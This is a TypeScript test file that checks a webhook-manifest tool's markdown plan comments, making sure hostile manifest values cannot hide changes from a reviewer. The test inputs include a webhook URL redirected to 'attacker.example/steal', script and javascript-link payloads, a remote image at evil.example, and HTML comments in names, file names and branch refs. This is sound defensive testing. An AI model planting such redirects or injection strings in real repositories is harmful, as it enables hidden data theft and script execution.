// A plan comment cannot hide a change from its reviewer: hostile names, kinds, messages, values, file
// names and refs in real git repositories are rendered with a CommonMark renderer that passes raw HTML
// through as GitHub does (markdown-it, html: true), and everything the plan holds must be visible text
// of the rendered comment — nothing inside an HTML comment, a raw HTML element, a link or an image.
import t from 'tap'
import MarkdownIt from 'markdown-it'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { planCommand, type PlanOptions } from '../controller/cli/plan.js'
import type { Plan } from '../controller/plan/plan.js'
import type { TapTest } from './helpers/cli.js'
import { createRepo, type TestRepo } from './helpers/git-repo.js'
import { deploy, WEBHOOK_CI } from './helpers/plan-manifests.js'

const md = new MarkdownIt({ html: true })

/** The elements a plan comment is made of; any other element in the rendered HTML came from a manifest. */
const PLAN_ELEMENTS = new Set([
  'h3',
  'h4',
  'p',
  'code',
  'pre',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'ul',
  'li',
  'strong',
  'em',
  'details',
  'summary',
])

const ENTITIES: Record<string, string> = { lt: '<', gt: '>', amp: '&', quot: '"', apos: "'" }
const decode = (s: string): string =>
  s.replace(/&(#x[0-9a-f]+|#[0-9]+|[a-z]+);/gi, (whole, e: string) =>
    e[0] === '#' ? String.fromCodePoint(Number.parseInt(e.slice(e[1] === 'x' ? 2 : 1), e[1] === 'x' ? 16 : 10)) : (ENTITIES[e] ?? whole),
  )
const squash = (s: string): string => s.replace(/\s+/g, ' ')

/** What a reader of the rendered comment sees: no comments, no script/style content, no tags, entities decoded. */
function visibleText(html: string): string {
  const text = html
    .replace(/<!--[\s\S]*?(-->|$)/g, ' ')
    .replace(/<(script|style|textarea|template)\b[\s\S]*?(<\/\1\s*>|$)/gi, ' ')
    .replace(/<[^>]*>/g, '')
  return squash(decode(text))
}

/** How the plan shows a control character: as its JSON escape, so a newline cannot start a block. */
const shown = (s: string): string =>
  s.replace(/\p{Cc}/gu, (c) =>
    c === '\n' ? '\\n' : c === '\r' ? '\\r' : c === '\t' ? '\\t' : `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
  )

async function plan(repo: TestRepo, options: Partial<PlanOptions>): Promise<{ status: number; stdout: string; stderr: string }> {
  let stdout = ''
  let stderr = ''
  const io = {
    out: (s: string) => {
      stdout += s
    },
    err: (s: string) => {
      stderr += s
    },
    stdin: async () => '',
  }
  const status = await planCommand({ base: 'main', path: 'hw', format: 'markdown', cwd: repo.root, ...options }, io)
  return { status, stdout, stderr }
}

function baseRepo(t: TapTest): TestRepo {
  const repo = createRepo()
  t.teardown(repo.remove)
  repo.write({ 'hw/hooks.yaml': WEBHOOK_CI + deploy('production') })
  repo.commit('base')
  return repo
}

/**
 * Renders the markdown plan and checks that every object, location, field change, preview error and
 * diagnostic of the same plan (as json) is visible text, and that only the plan's own elements exist.
 */
async function checkVisible(t: TapTest, repo: TestRepo, options: Partial<PlanOptions> = {}): Promise<{ text: string; status: number }> {
  const markdown = await plan(repo, options)
  const json = JSON.parse((await plan(repo, { ...options, format: 'json' })).stdout) as Plan
  const html = md.render(markdown.stdout)
  const text = visibleText(html)
  const seen = (what: string, value: string | undefined): void => {
    if (value === undefined || value === '') return
    const want = squash(shown(value))
    t.ok(text.includes(want), `visible: ${what} ${JSON.stringify(value)}`)
  }
  t.notOk(html.includes('<!--'), 'no HTML comment in the rendered comment')
  const elements = new Set([...html.matchAll(/<\/?([a-zA-Z][\w-]*)/g)].map((m) => m[1]!.toLowerCase()))
  t.same(
    [...elements].filter((e) => !PLAN_ELEMENTS.has(e)),
    [],
    'only the elements hookwise writes: no script, link, image or other raw HTML from a manifest',
  )
  seen('base ref', json.base.ref)
  seen('head ref', json.head.ref)
  for (const o of json.objects) {
    seen(`${o.kind} key`, o.key)
    seen(`${o.key} location`, o.location)
    for (const d of o.diff) {
      seen(`${o.key} diff path`, d.path)
      if ('before' in d) seen(`${o.key} ${d.path} before`, JSON.stringify(d.before))
      if ('after' in d) seen(`${o.key} ${d.path} after`, JSON.stringify(d.after))
    }
    for (const k of o.keys ?? []) seen(`${o.key} secret key`, k.key)
    for (const side of [o.preview?.before, o.preview?.after]) {
      seen(`${o.key} preview error`, side?.error)
      seen(`${o.key} preview url`, side?.request?.url)
      for (const [name, value] of Object.entries(side?.request?.headers ?? {})) seen(`${o.key} header`, `${name}: ${value}`)
    }
    seen(`${o.key} preview event file`, o.preview?.event.file)
    seen(`${o.key} preview event type`, o.preview?.event.type)
  }
  for (const d of json.diagnostics) {
    seen('diagnostic file', d.file)
    seen('diagnostic object', d.object)
    seen('diagnostic path', d.path)
    seen('diagnostic message', d.message)
    seen('diagnostic hint', d.hint)
  }
  return { text, status: markdown.status }
}

t.test('a kind that opens an HTML comment cannot hide a webhook URL changed to another host', async (t) => {
  const repo = baseRepo(t)
  repo.write({
    'hw/a-thing.yaml': 'apiVersion: example.com/v1\nkind: "Thing\\n\\n<!-- hidden"\nmetadata: {name: thing}\n',
    'hw/hooks.yaml': WEBHOOK_CI.replace('https://ci.example.com/hooks', 'https://attacker.example/steal') + deploy('production'),
  })
  const { text, status } = await checkVisible(t, repo)
  t.ok(text.includes('+ spec.url: "https://attacker.example/steal"'), 'the changed URL is visible in the diff')
  t.ok(text.includes('POST https://attacker.example/steal'), 'and in the request preview')
  t.ok(text.includes('kind "Thing\\n\\n<!-- hidden" (example.com/v1) is not a Kubernetes kind'), 'the kind is named, escaped')
  t.equal(status, 1, 'a kind no Kubernetes object can have is an error: the plan fails')
})

const HOSTILE = [
  '<!-- open',
  'close -->',
  '</details>',
  '`tick`',
  '```\nfenced\n```',
  'a|b',
  'line\n\n<!-- hidden',
  '<script>alert(1)</script>',
  '[link](javascript:alert(1))',
  '![img](https://evil.example/i.png)',
  '# heading',
  '&lt;b&gt; &amp;',
  '$\\phantom{hidden}$',
  '~~struck~~ *em* _em_',
  '\\<!-- escaped',
]

t.test('hostile names, kinds, values, keys, messages, file names and refs are all visible', async (t) => {
  const repo = baseRepo(t)
  repo.git('checkout', '-q', '-b', 'feat/<!--x`y|z')
  const payload = HOSTILE.map((h, i) => `      h${i}: ${JSON.stringify(h)}`).join('\n')
  const objects = HOSTILE.map(
    (h, i) => `---
apiVersion: hookwise.dev/v1alpha1
kind: Webhook
metadata: {name: ${JSON.stringify(h)}}
spec:
  url: https://ci.example.com/${i}
  headers: {X-Note: ${JSON.stringify(h.replace(/\n/g, ' '))}}
---
apiVersion: example.com/v1
kind: ${JSON.stringify(h)}
metadata: {name: k${i}}
---
apiVersion: v1
kind: Secret
metadata: {name: s${i}}
stringData: {${JSON.stringify(h)}: value}
`,
  )
  repo.write({
    'hw/hooks.yaml': `${WEBHOOK_CI.replace('X-Team: ml', 'X-Team: "<!-- ml"')}${deploy('production', `\n${payload}`)}
    headers:
      ${JSON.stringify(`X-${HOSTILE[0]}`)}: x
---
apiVersion: hookwise.dev/v1alpha1
kind: Automation
metadata: {name: bad}
spec:
  scope: {type: Registry, registry: model}
  event: {type: LINK_ARTIFACT}
  action: {webhook: ${JSON.stringify(HOSTILE[6])}, payloadTemplate: ${JSON.stringify(HOSTILE.join(' '))}}
`,
    'hw/objects.yaml': objects.join(''),
    'hw/<!--file|`x`.yaml': `apiVersion: example.com/v1\nkind: Other\nmetadata: {name: f}\n`,
    'hw/new\nline <!-- x.yaml': `apiVersion: example.com/v1\nkind: Other\nmetadata: {name: g}\n`,
  })
  const head = repo.commit('hostile')
  const events = mkdtempSync(join(tmpdir(), 'hookwise-events-'))
  t.teardown(() => rmSync(events, { recursive: true, force: true }))
  mkdirSync(events, { recursive: true })
  writeFileSync(
    join(events, '<!-- event `x`.json'),
    JSON.stringify({
      type: 'ADD_ARTIFACT_ALIAS',
      entity: 'acme',
      project: 'wandb-registry-model',
      registry: 'model',
      collection: 'churn',
      version: 'v7',
      alias: 'production',
      author: '<!-- author',
      metadata: { accuracy: 0.95 },
    }),
  )
  const working = await checkVisible(t, repo, { events })
  t.equal(working.status, 1)
  const committed = await checkVisible(t, repo, { head: 'feat/<!--x`y|z', events })
  t.ok(committed.text.includes(`feat/<!--x\`y|z (${head.slice(0, 12)})`), 'the head ref is visible')
  for (const h of HOSTILE) t.ok(working.text.includes(squash(shown(JSON.stringify(h)))), `payload value ${JSON.stringify(h)} visible`)
})
